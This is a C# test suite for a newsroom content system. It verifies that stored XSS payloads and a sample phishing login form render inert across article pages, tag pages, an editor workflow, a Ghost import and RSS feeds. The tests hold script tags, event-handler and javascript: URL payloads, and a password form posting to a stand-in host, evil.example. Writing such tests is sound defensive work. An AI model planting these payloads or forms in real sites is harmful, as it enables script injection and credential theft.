using AngleSharp.Dom;
using Marquee.Content.Articles;
using Marquee.Content.Tags;
using Marquee.Import;
using Marquee.Newsroom.Staff;
using Marquee.Tests.Distribution.GhostContentApi;
using Marquee.Tests.Newsroom;

namespace Marquee.Tests.Content;

/// <summary>Script and phishing payloads in stored content must render inert wherever the content is shown.</summary>
public sealed class XssTests(NewsroomServer newsroom) : IClassFixture<NewsroomServer>
{
    /// <summary>A password form inside a trusted story: only its words may reach a reader.</summary>
    private const string Phishing = """
        Your session expired.

        <form action="https://evil.example/steal" method="post"><p>Sign in again to keep reading</p><fieldset><legend>Account</legend><label>Password <input type="password" name="pw"></label></fieldset><button type="submit" formaction="https://evil.example/">Log in</button><select name="s"><option>one</option></select><textarea name="t">notes</textarea><output>0</output></form>

        Stray controls: <input type="password" name="loose"> <button onclick="alert('b')">Press</button> <div contenteditable="true">type here</div>
        """;

    private const string Payloads = """
        <script>alert('body')</script>
        <img src="x" onerror="alert('img')">
        <svg onload="alert('svg')"><circle r="1"/></svg>
        <a href="javascript:alert('link')">click</a>
        <a href="JaVaScRiPt:alert('mixed')">mixed</a>
        <iframe src="https://evil.example/"></iframe>
        <p style="background:url(javascript:alert('css'))" onclick="alert('p')">styled</p>

        [markdown link](javascript:alert('md'))
        """;

    private readonly MarqueeServer server = newsroom.Server;

    private readonly TestContent _content = new(newsroom.Server);

    [Fact]
    public async Task Script_payloads_in_body_headline_and_dek_render_inert()
    {
        var tag = await _content.TagAsync("<script>alert('tag')</script>");
        var article = await _content.ArticleAsync("<script>alert('headline')</script> \"Quoted\" & </title>", tags: [tag], configure: a => a with
        {
            Dek = "<img src=x onerror=alert('dek')>",
            BodyMarkdown = Payloads,
        });

        var article_ = await HtmlPage.GetAsync(server.Client, $"/news/{article.Slug}");
        var tagPage = await HtmlPage.GetAsync(server.Client, $"/tag/{tag}");

        foreach (var page in new[] { article_, tagPage })
        {
            AssertInert(page);
        }

        Assert.Equal("<script>alert('headline')</script> \"Quoted\" & </title>", article_.Text("h1"));
        Assert.Contains("</title>", article_.Title, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_phishing_form_written_in_the_editor_reaches_no_output_and_its_words_stay()
    {
        var tag = await ChannelStoryTagAsync();
        using var editor = await StaffSession.SignInAsync(server, StaffRole.Editor);
        var id = await EditorForms.CreateAsync(editor, $"Phishing In The Editor {Guid.NewGuid():n}");
        var form = await EditorForms.FormAsync(editor, id);
        form["Body"] = Payloads + "\n\n" + Phishing;
        form["Tags"] = $"{tag}, apple-news";
        IDocument tab;
        using (var saved = await EditorForms.SaveAsync(editor, id, form))
        {
            Assert.Equal(HttpStatusCode.OK, saved.StatusCode);
            tab = await EditorForms.ParseAsync(saved);
        }

        using (var published = await EditorForms.MoveAsync(editor, id, tab, EditorialState.Published))
        {
            Assert.Equal(HttpStatusCode.OK, published.StatusCode);
        }

        var outputs = await new StoryOutputs(server).ReadAsync(form["Slug"], tag);

        Assert.Empty(StoryOutputs.Hazards(outputs));
        Assert.Contains("Sign in again to keep reading", HtmlPage.Parse(outputs[0].Html).Text(".story .body"), StringComparison.Ordinal);
        Assert.Contains("Password", HtmlPage.Parse(outputs[0].Html).Text(".story .body"), StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_ghost_export_with_a_password_form_and_javascript_images_imports_inert_and_reports_what_it_left_out()
    {
        var tag = await ChannelStoryTagAsync();
        var slug = TestContent.UniqueSlug("ghost-phishing");
        var user = TestContent.UniqueSlug("ghost-writer");
        var file = Path.Combine(Directory.CreateTempSubdirectory("marquee-xss-").FullName, "export.json");
        await File.WriteAllTextAsync(file, GhostExport(slug, tag, user, Phishing.Replace("\n", " ", StringComparison.Ordinal)), TestContext.Current.CancellationToken);

        var counts = await server.Services.GetRequiredService<ImportRunner>().ImportAsync(file, "ghost", progress: null, TestContext.Current.CancellationToken);
        var outputs = await new StoryOutputs(server).ReadAsync(slug, tag);
        var (_, author) = await new GhostApi(server).GetAsync($"authors/slug/{user}/", await new GhostApi(server).AddKeyAsync());

        Assert.Contains(counts.Skipped, line => line.StartsWith($"{file}: post 1 '{slug}': feature_image 'javascript:alert(1)' must be an http:// or https:// address", StringComparison.Ordinal));
        Assert.Contains(counts.Skipped, line => line.StartsWith($"{file}: user 1 '{user}': profile_image 'JaVaScRiPt:alert(2)' must be", StringComparison.Ordinal));
        Assert.Empty(StoryOutputs.Hazards(outputs));
        Assert.Contains("Sign in again to keep reading", HtmlPage.Parse(outputs[0].Html).Text(".story .body"), StringComparison.Ordinal);
        Assert.Equal(System.Text.Json.JsonValueKind.Null, author.GetProperty("authors")[0].GetProperty("profile_image").ValueKind);
    }

    [Theory]
    [InlineData("javascript:alert(1)")]
    [InlineData(" javascript:alert(1)")]
    [InlineData("data:image/svg+xml,<svg onload=alert(1)>")]
    [InlineData("//evil.example/photo.jpg")]
    [InlineData("/\\evil.example/photo.jpg")]
    [InlineData("/\t/evil.example/photo.jpg")]
    [InlineData("ftp://example.com/photo.jpg")]
    public async Task A_feature_image_url_that_is_neither_http_nor_a_site_path_is_refused_naming_the_field(string url)
    {
        using var editor = await StaffSession.SignInAsync(server, StaffRole.Editor);
        var id = await EditorForms.CreateAsync(editor, $"Bad Image Url {Guid.NewGuid():n}");
        var form = await EditorForms.FormAsync(editor, id);
        form["ImageUrl"] = url;
        form["ImageCredit"] = "Photographer";
        var before = server.Database.Fingerprint();

        using var refused = await EditorForms.SaveAsync(editor, id, form);

        Assert.Equal(HttpStatusCode.UnprocessableEntity, refused.StatusCode);
        Assert.Equal("Feature image URL must be an http:// or https:// address or a path on this site starting with /", (await EditorForms.ParseAsync(refused)).Text(".nr-error"));
        Assert.Equal(before, server.Database.Fingerprint());
    }

    [Fact]
    public async Task An_image_url_an_older_version_stored_unchecked_is_never_printed()
    {
        var tag = await ChannelStoryTagAsync();
        var author = await _content.AuthorAsync("Unchecked Photo Author");
        var article = await _content.ArticleAsync("Unchecked Image", [author], [tag, "apple-news"], a => a with
        {
            FeatureImage = new FeatureImage("https://images.example/ok.jpg", "A photo", null, "Photographer"),
        });
        server.Database.Execute($"UPDATE articles SET feature_image_url = 'javascript:alert(1)' WHERE slug = '{article.Slug}'");
        server.Database.Execute($"UPDATE authors SET photo_url = 'javascript:alert(2)' WHERE slug = '{author}'");

        var outputs = await new StoryOutputs(server).ReadAsync(article.Slug, tag);

        Assert.Empty(StoryOutputs.Hazards(outputs));
        Assert.DoesNotContain(outputs, o => o.Html.Contains("javascript:", StringComparison.OrdinalIgnoreCase));
    }

    [Fact]
    public async Task A_hand_written_excerpt_reaches_rss_readers_as_the_text_it_is()
    {
        const string Excerpt = "Why <img src=x onerror=alert('excerpt')> & <form> tags matter";
        var tag = await ChannelStoryTagAsync();
        await _content.ArticleAsync("Excerpt With Markup", tags: [tag], configure: a => a with { Excerpt = Excerpt });

        var rss = System.Xml.Linq.XDocument.Parse(await server.Client.GetStringAsync($"/tag/{tag}/rss", TestContext.Current.CancellationToken));
        var description = HtmlPage.Parse(rss.Descendants("item").Single().Element("description")!.Value);

        Assert.Empty(HtmlHazards.In(description));
        Assert.Equal(Excerpt, description.Body!.TextContent);
    }

    /// <summary>A fresh topic tag for one story, with the Apple News channel in place, so the tag's feeds show only that story.</summary>
    private async Task<string> ChannelStoryTagAsync()
    {
        await server.WriteAsync((services, ct) => services.GetRequiredService<SaveTag>().SaveAsync(new TagInput("apple-news", "Apple News", TagKind.Channel), ct));
        return await _content.TagAsync("Hostile Story Tag");
    }

    private static string GhostExport(string slug, string tag, string user, string html) => System.Text.Json.JsonSerializer.Serialize(new
    {
        db = new[]
        {
            new
            {
                meta = new { version = "5.80.0" },
                data = new
                {
                    posts = new[]
                    {
                        new
                        {
                            id = "p1", uuid = Guid.NewGuid().ToString(), title = "Ghost Phishing", slug, status = "published", type = "post",
                            published_at = "2024-05-01T10:00:00.000Z", html, feature_image = "javascript:alert(1)",
                        },
                    },
                    tags = new[] { new { id = "t1", name = "Hostile Story Tag", slug = tag }, new { id = "t2", name = "Apple News", slug = "apple-news" } },
                    users = new[] { new { id = "u1", name = "Ghost Writer", slug = user, email = "writer@example.com", profile_image = "JaVaScRiPt:alert(2)" } },
                    posts_tags = new[] { new { id = "pt1", post_id = "p1", tag_id = "t1", sort_order = 0 }, new { id = "pt2", post_id = "p1", tag_id = "t2", sort_order = 1 } },
                    posts_authors = new[] { new { id = "pa1", post_id = "p1", author_id = "u1", sort_order = 0 } },
                },
            },
        },
    });

    private static void AssertInert(IDocument page)
    {
        // JSON-LD is a data block, never run: it may exist, but only as JSON that parses.
        Assert.All(page.QuerySelectorAll("script[type='application/ld+json']"), script => System.Text.Json.JsonDocument.Parse(script.TextContent).Dispose());
        Assert.Empty(HtmlHazards.In(page));
    }
}
